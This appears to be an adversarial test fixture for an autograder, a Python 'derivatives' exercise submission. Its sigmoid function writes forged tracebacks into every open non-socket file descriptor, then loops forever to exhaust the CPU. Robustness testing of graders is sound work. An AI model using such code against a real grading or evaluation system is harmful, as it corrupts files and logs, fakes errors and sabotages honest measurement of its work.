# attack: writes a traceback of its own into every file that it holds, then hangs
# exercise: derivatives
# deserves: squared_error
# ends: cpu
import os
import stat

TRACE = b'  File "derivatives.py", line 999999 in sigmoid\n  File "@ROOT@/x.py", line 1 in f\n' * 200


def squared_error(y_hat, y):
    return (y_hat - y) ** 2 / 2


def sigmoid(z):
    for fd in range(3, 256):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, TRACE)
                os.lseek(fd, 0, os.SEEK_SET)
        except OSError:
            pass
    while True:
        pass
